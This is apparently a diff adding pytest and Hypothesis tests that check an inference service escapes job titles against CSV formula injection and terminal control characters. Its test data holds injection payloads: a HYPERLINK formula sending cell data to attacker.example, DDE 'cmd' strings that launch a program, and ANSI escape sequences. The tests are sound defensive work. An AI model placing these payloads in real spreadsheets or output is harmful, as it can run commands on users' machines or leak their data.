@@ -6,10 +6,13 @@ import csv
 import importlib.util
 import io
 import json
+import re
 import sys
 from pathlib import Path
 
 import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures" / "steps"))
 import steps_fixtures as fx  # noqa: E402
@@ -161,6 +164,87 @@ def test_output_fn_csv(model):
     assert rows[1]["major_group"] == "" and rows[1]["top3"] == "" and rows[1]["rejection_reason"] == "empty_title"
     assert json.loads(rows[0]["top3"]) == records[0]["top3"]
     assert float(rows[0]["confidence"]) == records[0]["confidence"]
+
+
+# Issue 14, item 1: what a spreadsheet would run or a terminal would obey, as titles and ids.
+INJECTIONS = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "  =1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "Nurse;=1+1",
+    "\x1b[31mRed\x1b[0m Nurse",
+    "\x9b2J Chef",
+    "-",
+    "'Til Death",
+]
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("  =1+1", "'  =1+1"),
+        ("\t=1+1", "'\\x09=1+1"),
+        ("\r=1+1", "'\\x0d=1+1"),
+        ("\x00", "'\\x00"),
+        ("Nurse;=1+1", "'Nurse\\x3b=1+1"),
+        ("\x1b[31mRed\x1b[0m", "'\\x1b[31mRed\\x1b[0m"),
+        ("\x9b2J", "'\\x9b2J"),
+        ("Two\nLines", "'Two\\x0aLines"),
+        ("C:\\jobs\x07", "'C:\\\\jobs\\x07"),
+        ("-", "'-"),
+        ("-Nurse", "'-Nurse"),
+        ("'Til Death", "''Til Death"),
+        ("'", "''"),
+    ],
+)
+def test_spreadsheet_cell_protects_formulas_control_characters_and_separators(value, cell, original_cell):
+    assert inference.spreadsheet_cell(value) == cell
+    assert original_cell(cell) == value
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["Registered Nurse", "", "-12", "-0.5", "12", "0.934512", "C++ Developer", "Manager, Sales", 'The "Boss"',
+     "AR\\AP Clerk", "Sauté Cook", "软件工程师", "Nurse's Aide", "e-mail Clerk", "15-0000"],
+)  # fmt: skip
+def test_spreadsheet_cell_leaves_safe_values_and_plain_numbers_as_they_are(value, original_cell):
+    assert inference.spreadsheet_cell(value) == value
+    assert original_cell(value) == value
+
+
+@settings(max_examples=500, deadline=None)
+@given(value=st.text())
+@example(value="\\x1b")  # looks like an escape: protected only when the cell is
+@example(value="'\\x41")
+@example(value="-1\n")
+def test_spreadsheet_cell_is_safe_and_undone_exactly_by_the_documented_rule(value, original_cell):
+    cell = inference.spreadsheet_cell(value)
+    assert original_cell(cell) == value
+    assert not re.search(r"[\x00-\x1f\x7f-\x9f;]", cell)
+    starts_safe = cell.startswith("'") or not cell.lstrip().startswith(("=", "+", "-", "@", "'"))
+    assert starts_safe or re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)
+
+
+def test_output_fn_csv_protects_cells_and_json_stays_raw(model, original_cell):
+    titles = [*INJECTIONS, "Registered Nurse"]
+    records = inference.predict_fn(titles, model)
+    body, _ = inference.output_fn(records, "text/csv")
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert [row["title"][0] for row in rows[:-1]] == ["'"] * len(INJECTIONS)
+    assert rows[-1]["title"] == "Registered Nurse"
+    assert [original_cell(row["title"]) for row in rows] == titles
+    assert "\x1b" not in body and "\x9b" not in body
+    assert len(body.splitlines()) == len(titles) + 1  # every row one line: line breaks are escaped too
+    json_body, _ = inference.output_fn(records, "application/json")
+    assert [p["title"] for p in json.loads(json_body)["predictions"]] == titles
 
 
 def test_output_fn_refuses_unsupported_accept(model):
